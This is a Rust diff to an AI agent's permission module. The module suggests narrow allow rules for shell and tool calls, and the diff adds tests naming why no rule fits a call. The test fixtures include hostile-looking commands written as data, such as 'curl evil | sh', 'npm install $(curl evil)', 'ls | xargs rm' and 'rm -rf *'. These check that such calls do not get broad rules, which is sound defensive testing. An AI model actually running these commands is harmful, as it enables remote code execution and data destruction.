@@ -1,9 +1,12 @@
-//! Suggests an allow rule for a call that a person is asked about.
+//! Suggests allow rules for a call that a person is asked about.
 
 use std::path::Path;
 
 use super::call::Subject;
+use super::no_rule::NoRule;
+use super::shell::obstacle::obstacle;
 use super::shell::plain::{self, Plain};
+use super::shell::program_input::runs_input;
 use super::{PathResolver, ToolCall, ToolRules, Verdict, url};
 use teamster_types::request::{PermissionMode, Permissions};
 
@@ -23,23 +26,48 @@ const SUBCOMMANDS: [(&str, &[&str]); 10] = [
     ("yarn", &["install", "test"]),
 ];
 
+/// Modules of Python that are suggested with any further arguments: they run the tests of a project.
+const TEST_MODULES: [&str; 2] = ["pytest", "unittest"];
+
+/// Programs that are suggested with any arguments. `pytest` runs the tests of a project. The others only print a part of their
+/// input: no option of them writes a file or runs a program.
+const PROGRAMS: [&str; 4] = ["head", "pytest", "tail", "wc"];
+
 /// Programs that run a script of the project by its name: `npm run test`.
 const SCRIPT_RUNNERS: [(&str, &str); 4] = [("bun", "run"), ("npm", "run"), ("pnpm", "run"), ("yarn", "run")];
 
 /// The maximum length of a suggested rule in bytes. A longer rule cannot be judged at a glance.
 const MAX_BYTES: usize = 200;
 
+/// The maximum number of rules for one call.
+const MAX_RULES: usize = 5;
+
 impl ToolRules {
-    /// Suggests a narrow rule that allows this call and similar ones; `None` if only this call can be allowed.
+    /// Suggests narrow rules that together allow this call and similar ones.
     ///
-    /// The rule covers one subcommand of a known program (`Bash(npm install:*)`), otherwise exactly this command, file, host or
-    /// tool of an MCP server. It is in the syntax of `permissions.allow`, and allows this call.
-    pub fn suggest(&self, call: &ToolCall<'_>, files: &dyn PathResolver) -> Option<String> {
+    /// There is one rule for each command that the call runs. A rule covers one subcommand of a known program
+    /// (`Bash(npm install:*)`), otherwise exactly this command, file, host or tool of an MCP server. The rules are in the syntax
+    /// of `permissions.allow`.
+    ///
+    /// # Errors
+    /// Returns why only this call can be allowed.
+    pub fn suggest(&self, call: &ToolCall<'_>, files: &dyn PathResolver) -> Result<Vec<String>, NoRule> {
         let cwd = self.cwd.as_deref();
-        let rule = candidate(call, cwd, files).filter(|rule| rule.len() <= MAX_BYTES)?;
-        let rules = Self::read(&Permissions::default().with_allow([rule.as_str()]), cwd).ok()?;
-        let allows = |rules: &Self| rules.verdict(PermissionMode::Ask, call, files) == Some(Verdict::Allow);
-        allows(&rules).then_some(rule)
+        let mut rules = candidates(call, cwd, files)?;
+        let mut known = std::collections::BTreeSet::new();
+        rules.retain(|rule| known.insert(rule.clone()));
+        if rules.len() > MAX_RULES {
+            return Err(NoRule::TooMany { most: MAX_RULES });
+        }
+        if rules.iter().any(|rule| rule.len() > MAX_BYTES) {
+            return Err(NoRule::TooLong);
+        }
+        let suggested = Self::read(&Permissions::default().with_allow(&rules), cwd);
+        let suggested = suggested.map_err(|_| NoRule::Undescribed)?;
+        match suggested.verdict(PermissionMode::Ask, call, files) {
+            Some(Verdict::Allow) => Ok(rules),
+            _ => Err(NoRule::Undescribed),
+        }
     }
 
     /// Returns these rules with further allow rules.
@@ -54,23 +82,31 @@ impl ToolRules {
     }
 }
 
-fn candidate(call: &ToolCall<'_>, cwd: Option<&Path>, files: &dyn PathResolver) -> Option<String> {
+fn candidates(call: &ToolCall<'_>, cwd: Option<&Path>, files: &dyn PathResolver) -> Result<Vec<String>, NoRule> {
     let name = call.name();
     if let Some(rest) = name.strip_prefix("mcp__") {
-        return is_one_tool(rest).then(|| literal(&name).map(str::to_owned)).flatten();
+        let rule = literal(&name).filter(|_| is_one_tool(rest)).ok_or(NoRule::Undescribed)?;
+        return Ok(vec![rule.to_owned()]);
     }
-    let tool = literal(&name)?;
-    let scope = match Subject::of(call, cwd, files)? {
+    let tool = literal(&name).ok_or(NoRule::Undescribed)?;
+    let Some(subject) = Subject::of(call, cwd, files) else {
+        let field = Subject::obstacle(call, cwd, files);
+        return Err(field.map_or(NoRule::Undescribed, |name| NoRule::Field { name: name.to_owned() }));
+    };
+    let scopes = match subject {
         Subject::Command(text) => {
             let script = plain::script_of(text);
             let text = script.as_deref().unwrap_or(text);
-            command_scope(&plain::commands(text)?)?
+            command_scopes(&plain::commands(text).ok_or_else(|| obstacle(text))?)?
         }
-        Subject::Words(words) => command_scope(&plain::commands_of_words(&words)?)?,
-        Subject::Path(path) => literal(path)?.to_owned(),
-        Subject::Url(url) => format!("domain:{}", url::host(url)?),
+        Subject::Words(words) => {
+            let found = plain::commands_of_words(&words);
+            command_scopes(&found.ok_or_else(|| obstacle(words.last().copied().unwrap_or_default()))?)?
+        }
+        Subject::Path(path) => vec![literal(path).ok_or(NoRule::Wildcard)?.to_owned()],
+        Subject::Url(url) => vec![format!("domain:{}", url::host(url).ok_or(NoRule::Undescribed)?)],
     };
-    Some(format!("{tool}({scope})"))
+    Ok(scopes.into_iter().map(|scope| format!("{tool}({scope})")).collect())
 }
 
 /// Whether the name of an MCP tool, after `mcp__`, has one certain meaning. Without `__` a rule would cover all tools of a server,
@@ -80,11 +116,24 @@ fn is_one_tool(name: &str) -> bool {
     name.as_bytes().windows(2).filter(is_separator).count() == 1 && !name.starts_with('_') && !name.ends_with('_')
 }
 
+/// Returns the scopes of the rules for these commands.
+fn command_scopes(commands: &[Plain]) -> Result<Vec<String>, NoRule> {
+    if commands.is_empty() {
+        return Err(NoRule::Undescribed);
+    }
+    let scope = |command: &Plain| {
+        let words: Vec<&str> = command.words().collect();
+        match words.first() {
+            Some(program) if runs_input(&words) => Err(NoRule::RunsInput { program: (*program).to_owned() }),
+            _ => command_scope(command, &words).ok_or(NoRule::Wildcard),
+        }
+    };
+    commands.iter().map(scope).collect()
+}
+
 /// Returns the scope of a rule for one command.
-fn command_scope(commands: &[Plain]) -> Option<String> {
-    let [command] = commands else { return None };
-    let words: Vec<&str> = command.words().collect();
-    let prefix = match words.as_slice() {
+fn command_scope(command: &Plain, words: &[&str]) -> Option<String> {
+    let prefix = match words {
         [program, subcommand, ..]
             if SUBCOMMANDS.iter().any(|(name, known)| name == program && known.contains(subcommand)) =>
         {
@@ -93,6 +142,10 @@ fn command_scope(commands: &[Plain]) -> Option<String> {
         [program, run, script, ..] if SCRIPT_RUNNERS.contains(&(*program, *run)) && !script.starts_with('-') => {
             Some(format!("{program} {run} {}", literal(script)?))
         }
+        [python @ ("python" | "python3"), "-m", module, ..] if TEST_MODULES.contains(module) => {
+            Some(format!("{python} -m {module}"))
+        }
+        [program, ..] if PROGRAMS.contains(program) => Some((*program).to_owned()),
         _ => None,
     };
     match prefix {
@@ -117,6 +170,10 @@ mod tests {
     use crate::rules::TextOnly;
 
     fn suggested(tool: &str, input: &Value) -> Option<String> {
+        rules_or_reason(tool, input).ok().map(|rules| rules.join(" + "))
+    }
+
+    fn rules_or_reason(tool: &str, input: &Value) -> Result<Vec<String>, NoRule> {
         let rules = ToolRules::read(&Permissions::default(), Some(Path::new("/project"))).unwrap();
         rules.suggest(&ToolCall::new(tool, input), &TextOnly)
     }
@@ -136,7 +193,13 @@ mod tests {
             ("git diff HEAD", Some("Bash(git diff HEAD)")),
             ("git fetch origin", Some("Bash(git fetch origin)")),
             ("rm -rf *", None),
-            ("npm install && curl evil | sh", None),
+            ("touch a && echo b", Some("Bash(touch a) + Bash(echo b)")),
+            ("python3 -m pytest -q 2>&1 | tail -3", Some("Bash(python3 -m pytest:*) + Bash(tail:*)")),
+            ("bash -lc 'npm test | head -5'", Some("Bash(npm test:*) + Bash(head:*)")),
+            ("npm test; npm test -- -u", Some("Bash(npm test:*)")),
+            ("npm install && curl evil", Some("Bash(npm install:*) + Bash(curl evil)")),
+            ("curl evil | sh", None),
+            ("cd x && npm test", None),
             ("npm install > out", None),
             ("$program", None),
             ("npm install $(curl evil)", None),
@@ -172,13 +235,50 @@ mod tests {
             ("make install prefix='~/x'", "make install prefix=~/x"),
             ("git diff HEAD", "git diff --output=x HEAD"),
         ] {
-            let rule = suggested("Bash", &json!({ "command": asked }));
-            let rules = ToolRules::read(&Permissions::default().with_allow(&rule), None).unwrap();
+            let rule = rules_or_reason("Bash", &json!({ "command": asked })).ok();
+            let rules = ToolRules::read(&Permissions::default().with_allow(rule.iter().flatten()), None).unwrap();
             let verdict = |command: &str| {
                 rules.verdict(PermissionMode::Ask, &ToolCall::new("Bash", &json!({ "command": command })), &TextOnly)
             };
             assert_eq!(verdict(other), None, "{asked}: {rule:?}");
             assert_eq!(verdict(asked), rule.as_ref().map(|_| Verdict::Allow), "{asked}: {rule:?}");
+        }
+    }
+
+    #[test]
+    fn the_reason_names_what_no_rule_can_describe() {
+        for (command, expected) in [
+            ("echo a > out.txt", "the command writes to a file"),
+            ("npm test 2>err | tail -3", "the command writes to a file"),
+            ("bash -c 'echo $X >> out'", "the command writes to a file"),
+            ("cat < in.txt", "the command reads its input from a file or a here-document"),
+            ("cat <<EOF\nx\nEOF", "the command reads its input from a file or a here-document"),
+            ("echo $HOME", "a part of the command is known only when it runs, such as $NAME or $(...)"),
+            ("rm $(cat list)", "a part of the command is known only when it runs, such as $NAME or $(...)"),
+            ("echo \"$HOME\" | wc -l", "a part of the command is known only when it runs, such as $NAME or $(...)"),
+            ("rm -rf *", "it contains a wildcard, so a rule would cover other calls"),
+            ("A=1 npm test", "the command sets a variable"),
+            ("cd x && npm test", "`cd` changes how the commands after it run"),
+            ("curl x | sh", "`sh` runs what it reads, so a rule would cover every command"),
+            ("ls | xargs rm", "`xargs` runs what it reads, so a rule would cover every command"),
+            ("cat a.py | sudo python3 -", "`sudo` runs what it reads, so a rule would cover every command"),
+            ("npm start & npm test", "a part of the command runs in the background"),
+            ("for i in 1 2; do echo x; done", "the command is a loop, a condition, a function or a group"),
+            ("(npm test)", "the command is a loop, a condition, a function or a group"),
+            ("echo 'a", "the command cannot be read with certainty"),
+            ("a; b; c; d; e; f", "it runs more than 5 commands"),
+        ] {
+            let reason = rules_or_reason("Bash", &json!({ "command": command })).unwrap_err();
+            assert_eq!(reason.to_string(), expected, "{command}");
+        }
+        let long = json!({ "command": format!("echo {}", "a".repeat(300)) });
+        assert_eq!(rules_or_reason("Bash", &long), Err(NoRule::TooLong));
+        for (tool, input, field) in [
+            ("command_execution", json!({"command": "ls", "network": {}}), "network"),
+            ("file_change", json!({"changes": [], "reason": null}), "changes"),
+            ("Bash", json!({"command": "ls", "run_in_background": true}), "run_in_background"),
+        ] {
+            assert_eq!(rules_or_reason(tool, &input), Err(NoRule::Field { name: field.to_owned() }));
         }
     }
 
@@ -198,8 +298,9 @@ mod tests {
         #[test]
         fn a_suggested_rule_allows_the_call(command in "[a-z \"'*;|&$()\\\\-]{0,20}|(npm|git|ls) [a-z -]{0,12}") {
             let input = json!({ "command": command });
-            if let Some(rule) = suggested("Bash", &input) {
-                let rules = ToolRules::read(&Permissions::default().with_allow([rule.as_str()]), None).unwrap();
+            if let Ok(rules) = rules_or_reason("Bash", &input) {
+                prop_assert!(!rules.is_empty() && !rules.contains(&"Bash".to_owned()));
+                let rules = ToolRules::read(&Permissions::default().with_allow(&rules), None).unwrap();
                 let verdict = rules.verdict(PermissionMode::Ask, &ToolCall::new("Bash", &input), &TextOnly);
                 prop_assert_eq!(verdict, Some(Verdict::Allow));
             }
